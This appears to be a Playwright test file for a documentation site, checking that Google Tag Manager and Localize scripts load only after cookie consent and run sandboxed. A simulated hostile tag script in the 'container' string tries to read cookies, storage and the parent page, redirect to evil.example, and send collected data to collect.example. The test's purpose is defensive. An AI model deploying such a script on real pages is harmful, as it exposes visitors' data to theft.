// What others load into public documentation: after consent where the workspace says so, never beside a session, and Tag
// Manager's scripts, which are whatever a workspace wishes, with no hold of the page.
import { expect, test } from '@playwright/test'
import { aWorkspace, sql } from '../functions/support/people.ts'
import { aProjectOf } from './projects.ts'
import { at, expectAccessible, picture, stack } from './support.ts'

const description = `openapi: 3.1.0
info: { title: Pet store, version: 1.0.0 }
paths:
  /pets: { get: { summary: List pets, responses: { "200": { description: The pets } } } }
  /owners: { get: { summary: List owners, responses: { "200": { description: The owners } } } }
`

// A container that tries what a hostile one would.
const container = `
const told = { events: [], reached: [] }
for (const [name, reach] of Object.entries({
  'the page': () => parent.document.title,
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  'the address of the page': () => { top.location = 'https://evil.example' },
})) try { reach(); told.reached.push(name) } catch {}
const push = dataLayer.push.bind(dataLayer)
dataLayer.push = (event) => { push(event); say() }
const say = () => fetch('https://collect.example/?' + encodeURIComponent(JSON.stringify({ ...told, origin: self.origin, events: dataLayer.filter(({ event }) => event === 'page_view') })))
say()
`

test('tags of others run for visitors who allow them, and reach nothing', async ({ page }) => {
  const workspace = await aWorkspace(stack())
  const store = { name: 'Pet store', visibility: 'public' }
  await aProjectOf(workspace.owner.token, workspace.id, store, [['pets.yaml', description]])
  await sql(
    stack(),
    `update public.workspaces set google_tag_manager = 'GTM-A1B2C3D', localizejs = 'abcdef0123456', disable_cookie_tracking = true, favicon_url = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' where slug = $1`,
    [workspace.slug],
  )
  const loaded: string[] = []
  const collected: { reached: string[]; origin: string; events: { page_location: string }[] }[] = []
  await page.context().route(/googletagmanager|localizecdn|collect\.example/, (route) => {
    const url = new URL(route.request().url())
    if (url.host === 'collect.example') {
      collected.push(JSON.parse(decodeURIComponent(url.search.slice(1))))
      return route.fulfill({ body: '', headers: { 'access-control-allow-origin': '*' } })
    }
    loaded.push(url.href)
    const body = url.host.includes('localize')
      ? 'window.Localize = { initialize: (given) => { document.documentElement.dataset.localized = given.key } }'
      : container
    return route.fulfill({ contentType: 'text/javascript', body })
  })

  await page.goto(at('/docs/pet-store', workspace.slug))
  await page.getByRole('treeitem', { name: 'List pets' }).click()
  const bar = page.getByRole('region', { name: 'Cookies' })
  await expect(bar).toContainText('would like to load Google Tag Manager and Localize')
  await expect(page.locator('link[rel=icon]').first()).toHaveAttribute('href', /^data:image\/gif/)
  await expectAccessible(page)
  await picture(page, '1-asked')
  await bar.getByRole('button', { name: 'Decline' }).click()
  await expect(bar).toBeHidden()
  await page.reload()
  await expect(page.getByRole('button', { name: 'Cookie choices' })).toBeVisible()
  expect(loaded).toEqual([])

  await page.getByRole('button', { name: 'Cookie choices' }).click()
  await bar.getByRole('button', { name: 'Allow' }).click()
  await expect(page.locator('html')).toHaveAttribute('data-localized', 'abcdef0123456')
  const read = () =>
    collected.at(-1)?.events.map(({ page_location }) => page_location.replace(/.*[0-9a-f]-/, ''))
  await expect.poll(read).toEqual(['list-pets'])
  await page.getByRole('treeitem', { name: 'List owners' }).click()
  await expect.poll(read).toEqual(['list-pets', 'list-owners'])
  expect(collected.at(-1)).toMatchObject({ reached: [], origin: 'null' })
  expect(loaded.toSorted()).toEqual([
    'https://global.localizecdn.com/localize.js',
    'https://www.googletagmanager.com/gtm.js?id=GTM-A1B2C3D',
  ])
  await page.setViewportSize({ width: 390, height: 844 })
  await page.emulateMedia({ colorScheme: 'dark' })
  await picture(page, '2-chosen-phone-dark')
  await page.getByRole('button', { name: 'Cookie choices' }).click()
  await picture(page, '3-asked-phone-dark')
  await page.setViewportSize({ width: 1440, height: 900 })

  // A password is typed in a document without them.
  await page.getByRole('link', { name: 'Sign in' }).first().click()
  await expect(page).toHaveURL(/\/auth/)
  await expect(page.locator('html')).not.toHaveAttribute('data-localized')
  // By itself the frame is nobody's either.
  await page.goto(at('/tags/frame.html#GTM-A1B2C3D', workspace.slug))
  expect(await page.evaluate(() => self.origin)).toBe('null')
  expect(await page.evaluate(() => document.scripts.length)).toBe(1)
})
